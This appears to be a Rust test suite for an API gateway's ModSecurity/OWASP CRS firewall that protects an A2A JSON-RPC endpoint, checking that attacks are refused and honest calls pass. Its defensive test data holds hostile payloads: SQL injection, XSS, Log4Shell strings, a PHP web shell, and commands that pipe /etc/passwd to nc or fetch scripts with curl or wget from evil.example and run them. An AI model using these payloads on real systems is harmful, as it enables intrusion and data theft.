//! The web application firewall: the real engine with the OWASP Core Rule Set, against attacks and honest A2A calls.

use std::fs;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::support::client::Response;
use crate::support::gateway::{Gateway, Setup};
use crate::support::h2_client::H2;
use crate::support::node::Node;
use crate::support::wait_until;

pub const CRS: &str = "/etc/modsecurity/crs/crs-setup.conf, /usr/share/modsecurity-crs/rules";
const VERDICTS: &str = "hive_gateway_waf_requests_total";

/// A gateway with this firewall at its listener.
pub fn gateway(waf: &str) -> (Gateway, Node) {
    gateway_with(&format!("    waf: {{ {waf} }}\n"), "")
}

/// With more lines of the listener, and more in each route.
fn gateway_with(listener: &str, route: &str) -> (Gateway, Node) {
    let node = Node::start();
    let mut setup = Setup::new(&[node.address]);
    fs::copy(concat!(env!("CARGO_MANIFEST_DIR"), "/conf/waf-a2a.conf"), setup.dir.path().join("waf-a2a.conf")).unwrap();
    setup.listener = listener.into();
    setup.server = "watch: 100ms".into();
    setup.routes = format!(
        "
  - {{ name: a2a, paths: [/api/a2a/jsonrpc], methods: [POST], peers: any, upstream: hive, json_rpc: {{}}{route} }}
  - {{ name: echo, paths: [/echo, \"/echo/*\"], methods: [GET, POST], peers: any, upstream: hive }}
"
    );
    (setup.start(), node)
}

pub fn blocking() -> String {
    format!("mode: blocking, rules: [ {CRS}, waf-a2a.conf ], timeout: 30s")
}

#[track_caller]
fn post(gateway: &Gateway, headers: &str, body: &str) -> Response {
    let request = format!(
        "POST /api/a2a/jsonrpc HTTP/1.1\r\nHost: gateway.test\r\nContent-Type: application/json\r\n{headers}\
         Content-Length: {}\r\n\r\n{body}",
        body.len()
    );
    gateway.connect("alice").exchange(request.as_bytes()).unwrap()
}

pub const AGENT: &str = "User-Agent: a2a-sdk/1.3.0\r\nAccept: application/json, text/event-stream\r\n";

/// A `message/send` whose message has this text and whose metadata has this value.
fn call(text: &str, metadata: &str) -> String {
    json!({ "jsonrpc": "2.0", "id": "7f3c", "method": "message/send", "params": {
        "message": { "kind": "message", "role": "user", "messageId": "0192f3a1-9f52-7aa0-8e8e-2f1c9a4b7d10",
            "parts": [ { "kind": "text", "text": text }, { "kind": "data", "data": { "note": metadata } } ] },
        "configuration": { "acceptedOutputModes": ["text/plain"], "blocking": true } } })
    .to_string()
}

/// What the core rules are for.
const ATTACKS: &[&str] = &[
    "1' OR '1'='1' UNION SELECT username, password FROM users--",
    "x'; DROP TABLE agents; --",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "; cat /etc/passwd | nc evil.example 4444",
    "$(curl http://evil.example/x.sh | sh)",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "<?php system($_GET['c']); ?>",
];

#[test]
fn attacks_in_values_of_the_body_are_refused_and_told_without_the_body() {
    let (gateway, node) = gateway(&blocking());
    for attack in ATTACKS {
        let refused = post(&gateway, AGENT, &call("hello", attack));
        assert_eq!(refused.status, 403, "{attack}");
        let error = &refused.json()["error"];
        assert_eq!((&error["code"], &error["message"]), (&json!(-32600), &json!("The request is not allowed.")));
        assert_eq!(refused.json()["id"], "7f3c");
    }
    assert_eq!(node.count(), 0);
    gateway.wait_metric(VERDICTS, &[("verdict", "blocked")], ATTACKS.len() as f64);
    gateway.wait_metric("hive_gateway_refusals_total", &[("reason", "waf_blocked")], ATTACKS.len() as f64);
    let found = gateway.wait_log(|l| l["event"] == "waf_match" && l["rule"] == 942_100);
    assert_eq!(found["message"], "SQL Injection Attack Detected via libinjection");
    assert!(found["score"].as_u64().unwrap() >= 5 && found["verdict"] == "blocked" && found["route"] == "a2a");
    let line = gateway.wait_log(|l| l["event"] == "request" && l["request_id"] == found["request_id"]);
    assert_eq!((&line["refusal"], &line["waf_score"]), (&json!("waf_blocked"), &found["score"]));
    for secret in ["UNION SELECT", "onerror", "evil.example"] {
        assert!(!gateway.stdout().contains(secret), "{secret}");
    }
}

#[test]
fn the_core_rules_alone_find_attacks_in_the_text_too() {
    let (gateway, node) = gateway(&format!("mode: blocking, rules: [ {CRS} ], timeout: 30s"));
    for attack in ATTACKS {
        assert_eq!(post(&gateway, AGENT, &call(attack, "x")).status, 403, "{attack}");
    }
    assert_eq!(node.count(), 0);
}

#[test]
fn attacks_do_not_hide_behind_what_makes_the_engine_work_hard() {
    let (gateway, node) = gateway(&format!("mode: blocking, rules: [ {CRS} ], timeout: 30s"));
    let attacks =
        ["$(wget http://evil.example/x.sh -O- | sh)", "*)(uid=*))(|(uid=*", "require('child_process').exec('id')"];
    let paddings = [
        "a", "<", "'", "a ", "/", "(", "\\", "$", "{", "${", ";", "| ", "`", "\"", "=", "()", "a.", "<a ", "x=", "-",
        "#", "\n", " ", "@", "%", "select ", "union ",
    ];
    let mut passed = Vec::new();
    for attack in attacks {
        assert_eq!(post(&gateway, AGENT, &call("hello", attack)).status, 403, "{attack}");
        for padding in paddings {
            let padded = padding.repeat(3000 / padding.len());
            for note in [format!("{padded} {attack}"), format!("{attack} {padded}")] {
                if post(&gateway, AGENT, &call("hello", &note)).status != 403 {
                    passed.push((attack, padding));
                }
            }
        }
    }
    assert_eq!((passed, node.count()), (vec![], 0));
}

#[test]
fn a_body_in_a_code_is_refused_unseen_and_only_where_the_firewall_blocks() {
    // Rules that refuse nothing: it is the gateway that does.
    let dir = crate::support::TempDir::new();
    let rules = dir.path().join("none.conf");
    fs::write(&rules, "SecAction \"id:1,phase:1,pass,nolog\"\n").unwrap();
    let part = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Transfer-Encoding: base64\r\n\r\neA==\r\n--b--\r\n";
    let coded = [
        ("Content-Type: text/plain\r\nContent-Encoding: gzip\r\n", "x"),
        ("Content-Type: text/plain; charset=utf-7\r\n", "x"),
        ("Content-Type: multipart/form-data; boundary=b\r\n", part),
    ];
    for (mode, status) in [("blocking", 415), ("detection_only", 200)] {
        let (gateway, _node) = gateway(&format!("mode: {mode}, rules: [{}], timeout: 30s", rules.display()));
        for (fields, body) in coded {
            let head =
                format!("POST /echo HTTP/1.1\r\nHost: gateway.test\r\n{fields}Content-Length: {}\r\n\r\n", body.len());
            let answer = gateway.connect("alice").exchange(format!("{head}{body}").as_bytes()).unwrap();
            assert_eq!(answer.status, status, "{mode} {fields}");
        }
    }
}

/// All that the engine calls `json.params.message.parts.array_0.text`, but the text of a message.
#[test]
fn the_name_of_the_text_of_a_message_is_to_be_had_in_no_other_way() {
    let (gateway, node) = gateway(&blocking());
    const NAME: &str = "json.params.message.parts.array_0.text";
    const ATTACK: &str = "; cat /etc/passwd | nc evil.example 4444";
    let send = |kind: &str, target: &str, body: &str| {
        let head = format!("POST {target} HTTP/1.1\r\nHost: gateway.test\r\n{AGENT}Content-Type: {kind}\r\n");
        let request = format!("{head}Content-Length: {}\r\n\r\n{body}", body.len());
        gateway.connect("alice").exchange(request.as_bytes()).unwrap().status
    };
    let query = format!("/echo?{NAME}=%3Cscript%3Ealert(1)%3C/script%3E");
    assert_eq!(send("application/json", &query, "{}"), 403);
    assert_eq!(send("application/x-www-form-urlencoded", "/echo", &format!("{NAME}={ATTACK}")), 403);
    for body in [
        json!({ "params.message.parts.array_0.text": ATTACK }).to_string(),
        json!({ "params": { "message": { "parts": { "array_0": { "text": ATTACK } } } } }).to_string(),
        json!({ "params": { "message.parts": [ { "text": ATTACK } ] } }).to_string(),
        format!(r#"{{"\u0070arams.message.parts.array_0.text":"{ATTACK}"}}"#),
        format!(r#"{{"params\u002emessage":{{"parts":[{{"text":"{ATTACK}"}}]}}}}"#),
        json!({ "params": { "message": { "parts": [ { "TEXT": ATTACK } ] } } }).to_string(),
        json!({ "params": { "Message": { "Parts": [ { "Text": ATTACK } ] } } }).to_string(),
        json!({ "params": { "message": { "parts": [ { "text\n": ATTACK } ] } } }).to_string(),
        json!({ "x\njson": { "params": { "message": { "parts": [ { "text": ATTACK } ] } } } }).to_string(),
    ] {
        assert_eq!(send("application/json", "/echo", &body), 403, "{body}");
    }
    assert_eq!(node.count(), 0);
    let keys = json!({ "jsonrpc": "2.0", "id": 1, "method": "message/send", "params": { "message": {
        "parts": [ { "text": r#"{"params.message": 1, "array_0": "\\"}"# } ], "metadata": { "https://a.example/v1": 1 } } } });
    assert_eq!(post(&gateway, AGENT, &keys.to_string()).status, 200, "{}", gateway.stdout());
}

#[test]
fn keys_in_which_clients_write_signs_as_escapes_pass_and_letters_do_not() {
    let (gateway, node) = gateway(&blocking());
    let with_key = |key: &str| {
        let call = call("hello", "x").replace("\"note\"", &format!("\"{key}\""));
        assert!(call.contains(key));
        post(&gateway, AGENT, &call).status
    };
    // Of Go's json.Marshal, and of System.Text.Json, which has capitals.
    let honest = [
        r"https://ext.example/v1/trace?a=1\u0026b=2",
        r"R\u0026D",
        r"a \u003c b",
        r"a\u003eb",
        r"application/geo\u002Bjson",
        r"patient\u0027s age",
        r"\u0022quoted\u0022",
        r"a\u0060b",
        r"caf\u00e9",
    ];
    for key in honest {
        assert_eq!(with_key(key), 200, "{key}\n{}", gateway.stdout());
    }
    let hiding = [
        r"\u0070arams",
        r"\u004dessage",
        r"mess\u0061ge",
        r"par\u0074\u0073",
        r"x\u007A",
        r"array\u005f0",
        r"array_\u0030",
        r"params\u002Emessage",
        r"R\u0026\u0044",
        r"a\u002eb",
    ];
    for key in hiding {
        assert_eq!(with_key(key), 403, "{key}");
    }
    assert_eq!(node.count(), honest.len());
}

#[test]
fn long_texts_are_looked_at_to_their_end() {
    let (gateway, node) = gateway(&blocking());
    let prose = "The committee met on Tuesday to discuss the budget for next year, which (as expected) grew by 4.5%. ";
    for length in [3_000, 12_000, 30_000] {
        let text = prose.repeat(length / prose.len());
        assert_eq!(post(&gateway, AGENT, &call("hello", &text)).status, 200, "{length}: {}", gateway.stdout());
    }
    assert_eq!(node.count(), 3);
}

#[test]
fn attacks_in_header_fields_path_and_query_are_refused() {
    let (gateway, node) = gateway(&blocking());
    for headers in [
        "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n",
        "User-Agent: Nikto/2.5.0\r\n",
        "User-Agent: ${jndi:ldap://evil.example/a}\r\n",
        "User-Agent: ${${lower:j}ndi:${lower:l}dap://evil.example/a}\r\n",
        "X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}\r\n",
        "User-Agent: a\r\nCookie: a=' OR 1=1 UNION SELECT password FROM users--\r\n",
        "User-Agent: () { :; }; /bin/cat /etc/passwd\r\n",
    ] {
        assert_eq!(post(&gateway, headers, &call("hello", "x")).status, 403, "{headers}");
    }
    let client = gateway.client("alice");
    for path in ["/echo?q=1%27%20OR%20%271%27=%271%27%20UNION%20SELECT%20a,b%20FROM%20c--", "/echo?f=../../etc/passwd"]
    {
        assert_eq!(client.get(gateway.address, path).unwrap().status, 403, "{path}");
    }
    assert_eq!(node.count(), 0);
    let h2 = H2::connect(&client, gateway.address).unwrap();
    let mut request = H2::request("POST", "/api/a2a/jsonrpc").header("content-type", "application/json");
    request = request.header("user-agent", "a2a-sdk");
    assert_eq!(
        h2.send(request.body(()).unwrap(), call("x", "<script>alert(1)</script>").as_bytes()).unwrap().status,
        403
    );
    let request = H2::request("POST", "/api/a2a/jsonrpc").header("content-type", "application/json");
    let request = request.header("user-agent", "a2a-sdk").body(()).unwrap();
    assert_eq!(h2.send(request, call("hello", "x").as_bytes()).unwrap().status, 200);
}

/// What agents and people write to each other.
const TEXTS: &[&str] = &[
    "Please summarise the quarterly report.",
    "It's \"quoted\", isn't it? Don't -- you think; so... & more (really)!",
    "```sql\nSELECT u.id, u.name FROM users u WHERE u.id = 1 OR 1=1 UNION SELECT 1,2; -- all\nDROP TABLE x;\n```",
    "```bash\nls -la /etc | grep passwd; cat /var/log/syslog && curl https://example.com/x.sh | sh\n```",
    "```html\n<div onclick=\"go()\"><script>alert('x')</script><img src=x onerror=alert(1)></div>\n```",
    "```js\nconst x = require('child_process'); x.exec(`ls ${dir}`); document.cookie = 'a=b';\n```",
    "```php\n<?php echo $_GET['a']; system('ls'); ?>\n```",
    "```python\nimport os, subprocess\nfor x in range(10):\n    print(f'{x}: {os.environ[\"HOME\"]}')\neval('1+1')\n```",
    "```java\nRuntime.getRuntime().exec(\"id\"); // java.lang.ProcessBuilder\n```",
    "GET /index.html HTTP/1.1\r\nHost: example.com\r\n\r\nSet-Cookie: a=b",
    "See file:///etc/hosts, ../../README.md and https://user:pw@example.com:8443/a?b=c&d=e#f or C:\\Windows\\System32\\cmd.exe",
    "Größe 漢字 😀 \u{202e} — “Anführung”",
    "{\"nested\": [\"json\", {\"a\": null}]} and <xml a='b'>text</xml>",
];

#[test]
fn honest_a2a_calls_pass_with_quotes_and_code_in_their_text() {
    let (gateway, node) = gateway(&blocking());
    let headers = format!("{AGENT}A2A-Version: 0.3\r\nAuthorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJhIjoxfQ.c2ln\r\n");
    for text in TEXTS {
        let answer = post(&gateway, &headers, &call(text, "Quarter 3, \"final\" draft (v2.1) - don't share"));
        assert_eq!(answer.status, 200, "{text}\n{}", gateway.stdout());
    }
    let others: [Value; 4] = [
        json!({ "jsonrpc": "2.0", "id": 1, "method": "tasks/get", "params": { "id": "task-1", "historyLength": 10 } }),
        json!({ "jsonrpc": "2.0", "id": "a", "method": "SendMessage", "params": { "message": { "role": "ROLE_USER",
            "messageId": "m1", "parts": [ { "text": TEXTS[2] } ] } } }),
        json!({ "jsonrpc": "2.0", "id": 2, "method": "tasks/pushNotificationConfig/set", "params": { "taskId": "t",
            "pushNotificationConfig": { "url": "https://client.example.com/hook?task=1", "token": "c2VjcmV0" } } }),
        json!({ "jsonrpc": "2.0", "id": 3, "method": "message/stream", "params": { "message": { "kind": "message",
            "role": "user", "messageId": "m2", "parts": [ { "kind": "file", "file": { "name": "report.pdf",
            "mimeType": "application/pdf", "bytes": "JVBERi0xLjcKJeLjz9MKMSAwIG9iago8PC9UeXBlL0NhdGFsb2c+PgplbmRvYmoK" } } ] } } }),
    ];
    for body in &others {
        assert_eq!(post(&gateway, &headers, &body.to_string()).status, 200, "{body}\n{}", gateway.stdout());
    }
    assert_eq!(gateway.client("alice").get(gateway.address, "/echo").unwrap().status, 200);
    assert_eq!(node.count(), TEXTS.len() + others.len() + 1);
    gateway.wait_metric(VERDICTS, &[("verdict", "passed")], node.count() as f64);
}

#[test]
fn detection_only_counts_and_logs_and_refuses_nobody() {
    let waf = format!("mode: detection_only, rules: [ {CRS} ], body_limit: 1KiB, timeout: 30s");
    let (gateway, node) = gateway(&waf);
    assert_eq!(post(&gateway, AGENT, &call("hello", ATTACKS[0])).status, 200);
    let found = gateway.wait_log(|l| l["event"] == "waf_match");
    assert_eq!(found["verdict"], "detected");
    assert_eq!(post(&gateway, AGENT, &call(&"long ".repeat(500), ATTACKS[0])).status, 200);
    assert_eq!(node.count(), 2);
    gateway.wait_metric(VERDICTS, &[("verdict", "detected")], 1.0);
    gateway.wait_metric(VERDICTS, &[("verdict", "skipped")], 1.0);
}

#[test]
fn the_threshold_is_the_configurations_and_a_route_may_have_its_own_or_none() {
    let high = format!("    waf: {{ mode: blocking, rules: [ {CRS} ], anomaly_threshold: 1000, timeout: 30s }}\n");
    let (gateway, _node) = gateway_with(&high, "");
    assert_eq!(post(&gateway, AGENT, &call("hello", ATTACKS[0])).status, 200, "a score below 1000");
    let strict = format!("    waf: {{ mode: blocking, rules: [ {CRS} ], timeout: 30s }}\n");
    let (gateway, _node) = gateway_with(&strict, ", waf: { mode: off }");
    assert_eq!(post(&gateway, AGENT, &call("hello", ATTACKS[0])).status, 200, "off on this route");
    assert_eq!(gateway.client("alice").get(gateway.address, "/echo?f=../../etc/passwd").unwrap().status, 403);
}

#[test]
fn a_body_that_is_too_long_to_look_at_does_not_pass() {
    let waf = format!("mode: blocking, rules: [ {CRS}, waf-a2a.conf ], body_limit: 4KiB, timeout: 30s");
    let (gateway, node) = gateway(&waf);
    let refused = post(&gateway, AGENT, &call(&"word ".repeat(1000), "x"));
    assert_eq!(refused.status, 413);
    assert_eq!(post(&gateway, AGENT, &call(&"word ".repeat(100), "x")).status, 200);
    let many: Vec<u32> = (0..1100).collect();
    let body = json!({ "jsonrpc": "2.0", "id": 1, "method": "m", "params": many }).to_string();
    assert_eq!(post(&gateway, AGENT, &body[..]).status, 413);
    assert_eq!(node.count(), 1);
}

#[test]
fn more_values_than_are_looked_at_do_not_pass() {
    let (gateway, node) = gateway(&blocking());
    let many: Vec<u32> = (0..1100).collect();
    let body = json!({ "jsonrpc": "2.0", "id": 1, "method": "m", "params": many }).to_string();
    assert_eq!(post(&gateway, AGENT, &body).status, 403);
    assert_eq!(gateway.wait_log(|l| l["event"] == "waf_match")["message"], "Too many values in the request body");
    assert_eq!(node.count(), 0);
}

#[test]
fn bodies_made_to_be_slow_end_and_other_requests_go_on_meanwhile() {
    // 4 KiB of "<" take the engine's expressions eight seconds of processor without their limit.
    let waf = format!("mode: blocking, rules: [ {CRS} ], timeout: 30s");
    let (gateway, _node) = gateway_with("", &format!(", waf: {{ {waf} }}"));
    std::thread::scope(|scope| {
        for text in ["<", "${", "' ", "a=", " on="] {
            let gateway = &gateway;
            scope.spawn(move || {
                let begun = Instant::now();
                post(gateway, AGENT, &call(&text.repeat(4000 / text.len()), "x"));
                assert!(begun.elapsed() < Duration::from_secs(20), "{text}: {:?}", begun.elapsed());
            });
        }
        // The firewall's threads are not those that serve requests.
        let mut connection = gateway.connect("alice");
        for _ in 0..50 {
            let answer = connection.exchange(b"GET /echo HTTP/1.1\r\nHost: gateway.test\r\n\r\n").unwrap();
            assert_eq!(answer.status, 200);
        }
    });
}

#[test]
fn many_threads_at_once_agree_on_every_request() {
    let (gateway, node) = gateway(&blocking());
    std::thread::scope(|scope| {
        for worker in 0..8 {
            let gateway = &gateway;
            scope.spawn(move || {
                for i in 0..12 {
                    let attack = (i + worker) % 2 == 0;
                    let note = if attack { ATTACKS[i % ATTACKS.len()] } else { "fine" };
                    let status = post(gateway, AGENT, &call(TEXTS[i % TEXTS.len()], note)).status;
                    assert_eq!(status, if attack { 403 } else { 200 }, "{note}");
                }
            });
        }
    });
    assert_eq!(node.count(), 48);
    gateway.assert_running();
}

#[test]
fn an_engine_that_is_not_done_in_time_refuses_when_blocking_and_lets_pass_when_watching() {
    for (mode, status) in [("blocking", 503), ("detection_only", 200)] {
        // An expression of 2000 steps at each of some thousand values takes longer than 10 ms.
        let waf = format!("mode: {mode}, rules: [ {CRS} ], timeout: 10ms");
        let (gateway, _node) = gateway(&waf);
        let values: Vec<String> = (0..900).map(|n| format!("value {n} of many")).collect();
        let body = json!({ "jsonrpc": "2.0", "id": 1, "method": "m", "params": values }).to_string();
        let answer = post(&gateway, AGENT, &body);
        assert_eq!(answer.status, status, "{}", answer.text());
        gateway.wait_metric(VERDICTS, &[("verdict", "unavailable")], 1.0);
    }
}

const OWN: &str = "SecRule ARGS:x \"@streq one\" \"id:1,phase:2,deny,log,msg:'No ones'\"\n";

#[test]
fn changed_rules_come_into_use_by_themselves_and_broken_ones_keep_the_old() {
    let node = Node::start();
    let mut setup = Setup::new(&[node.address]);
    let file = setup.dir.path().join("own.conf");
    fs::write(&file, OWN).unwrap();
    setup.listener = "    waf: { mode: blocking, rules: [ own.conf ], timeout: 30s }\n".into();
    setup.server = "watch: 100ms".into();
    let gateway = setup.start();
    let status = |x: &str| gateway.client("alice").get(gateway.address, &format!("/echo?x={x}")).unwrap().status;
    assert_eq!((status("one"), status("two")), (403, 200));
    fs::write(&file, OWN.replace("one", "two")).unwrap();
    wait_until("the new rule is in use", || status("two") == 403);
    assert_eq!(status("one"), 200);
    fs::write(&file, "SecRule ARGS:x \"@streq one\" \"id:1,phase:2,deny,log,msg:'x'\"\nSecRule nonsense\n").unwrap();
    let answer = gateway.reload();
    assert_eq!(answer.status, 422, "{}", answer.text());
    let said = answer.text();
    assert!(
        said.contains("listeners[0].waf.rules[0]") && said.contains("own.conf") && said.contains("Line: 2"),
        "{said}"
    );
    assert_eq!((status("one"), status("two")), (200, 403), "the old rules");
    fs::write(&file, "").unwrap();
    let said = gateway.reload().text();
    assert!(said.contains("own.conf: the file is empty"), "{said}");
    assert_eq!((status("one"), status("two")), (200, 403), "a full disk switches no rule off");
}

#[test]
fn what_reaches_the_threshold_is_refused_whatever_counts_it() {
    let count =
        "SecRule QUERY_STRING \"@contains evil\" \"id:1,phase:2,pass,log,msg:'x',setvar:tx.anomaly_score=+5\"\n";
    for (mode, threshold, status) in
        [("blocking", 5, 403), ("blocking", 6, 200), ("detection_only", 5, 200), ("detection_only", 6, 200)]
    {
        let node = Node::start();
        let mut setup = Setup::new(&[node.address]);
        fs::write(setup.dir.path().join("own.conf"), count).unwrap();
        let waf = format!("mode: {mode}, rules: [ own.conf ], anomaly_threshold: {threshold}, timeout: 30s");
        setup.listener = format!("    waf: {{ {waf} }}\n");
        let gateway = setup.start();
        assert_eq!(gateway.client("alice").get(gateway.address, "/echo?evil").unwrap().status, status, "{waf}");
        assert_eq!(gateway.client("alice").get(gateway.address, "/echo?good").unwrap().status, 200, "{waf}");
    }
}

#[test]
fn what_is_wrong_with_rules_is_said_by_check() {
    let node = Node::start();
    for (rules, text, said) in [
        ("own.conf", "Include /etc/x.conf\n", "own.conf:1: Include is not followed"),
        ("own.conf", "SecRule ARGS \"@rx (\" \"phase:2\"\n", "own.conf"),
        ("own.conf", " \n", "own.conf: the file is empty; write a comment"),
        (
            "own.conf",
            "# x\nSecRule ARGS \"@rx y\" \"id:1,phase:2,deny\n",
            "own.conf:2: the directive that begins here has no end",
        ),
        ("none.conf", "", "none.conf: No such file"),
        ("", "", "no rules to look with"),
    ] {
        let mut setup = Setup::new(&[node.address]);
        fs::write(setup.dir.path().join("own.conf"), text).unwrap();
        setup.listener = format!("    waf: {{ mode: blocking, rules: [ {rules} ] }}\n");
        let (errors, _) = setup.check();
        assert!(errors.contains("listeners[0].waf.rules") && errors.contains(said), "{errors}");
    }
}
